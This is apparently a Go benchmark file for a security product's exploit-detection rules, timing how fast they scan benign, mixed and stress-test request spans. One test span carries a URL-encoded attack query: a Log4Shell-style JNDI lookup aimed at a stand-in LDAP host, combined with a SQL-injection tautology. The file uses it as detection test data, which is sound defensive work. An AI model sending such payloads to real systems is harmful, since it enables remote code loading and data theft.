package detect

import (
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/evidentsec/evident/internal/telemetry"
)

// BenchmarkRulesScan measures exploit rule evaluation per span on
// realistic benign server spans (the common case), on attacks, and on a
// mix of one attack in a hundred spans of several shapes, and on a value
// of 4,000 anchors of one rule (anchors-4k); the -memo
// variants scan with a Scanner, which takes the values it saw before
// from its memo, as the engine does.
func BenchmarkRulesScan(b *testing.B) {
	rules := mustRules(b)
	benign := telemetry.Span{Service: "shop", Kind: telemetry.SpanKindServer, Name: "GET /products/{id}", Attrs: telemetry.Attrs{
		HTTPMethod: "GET", HTTPRoute: "/products/{id}", URLPath: "/products/42", URLQuery: "currency=EUR&ref=home_page",
		UserAgent:      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
		RequestHeaders: map[string]string{"accept": "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", "x-request-id": "5d1f6c2e-3a8b-4f5e-9c1d-7e2b4a6f8c0d"},
	}}
	attack := benign
	attack.Attrs.URLQuery = "q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx.example%2Fa%7D&id=1%27%20OR%20%271%27%3D%271"
	client := telemetry.Span{Service: "shop", Kind: telemetry.SpanKindClient, Name: "SELECT", Attrs: telemetry.Attrs{
		DBSystem: "postgresql", DBQueryText: "SELECT id, name, price FROM products WHERE id = $1 AND deleted_at IS NULL"}}
	encoded := benign
	encoded.Attrs.URLPath, encoded.Attrs.URLQuery = "/search", "q=red%20shoes%20size%2042&sort=price%3Aasc&page=2"
	encoded.Attrs.RequestHeaders = map[string]string{"cookie": "session=3f2a9c; theme=dark; consent=yes", "referer": "https://shop.example/search?q=red+shoes"}
	// A value full of one rule's anchor (newlines, which the command
	// injection pattern's \s* reads on from each), and no payload.
	anchors := benign
	anchors.Attrs.URLQuery = "q=" + strings.Repeat("\n", 4000)
	var mixed []*telemetry.Span
	for i := range 100 {
		mixed = append(mixed, []*telemetry.Span{&benign, &encoded, &client}[i%3])
	}
	mixed[50] = &attack
	for _, bc := range []struct {
		name  string
		spans []*telemetry.Span
	}{
		{"benign-server", []*telemetry.Span{&benign}}, {"benign-encoded", []*telemetry.Span{&encoded}},
		{"attack-server", []*telemetry.Span{&attack}}, {"db-client", []*telemetry.Span{&client}}, {"mixed", mixed},
		{"anchors-4k", []*telemetry.Span{&anchors}},
	} {
		for _, memo := range []bool{false, true} {
			name, scan := bc.name, rules.Scan
			if memo {
				name, scan = name+"-memo", rules.NewScanner(nil).Scan
			}
			b.Run(name, func(b *testing.B) {
				benchScan(b, scan, bc.spans)
			})
		}
	}
}

func benchScan(b *testing.B, scan func(*telemetry.Span, func(Hit)), spans []*telemetry.Span) {
	b.ReportAllocs()
	cpu0 := cpuTime()
	i := 0
	for b.Loop() {
		scan(spans[i%len(spans)], func(Hit) {})
		i++
	}
	// CPU time, not wall time: on a shared machine the wall clock
	// measures the neighbours too.
	cpu := (cpuTime() - cpu0).Seconds()
	b.ReportMetric(cpu*1e9/float64(b.N), "cpu-ns/span")
	b.ReportMetric(float64(b.N)/cpu, "spans/cpu-s")
}

// cpuTime is the CPU time the process used so far.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
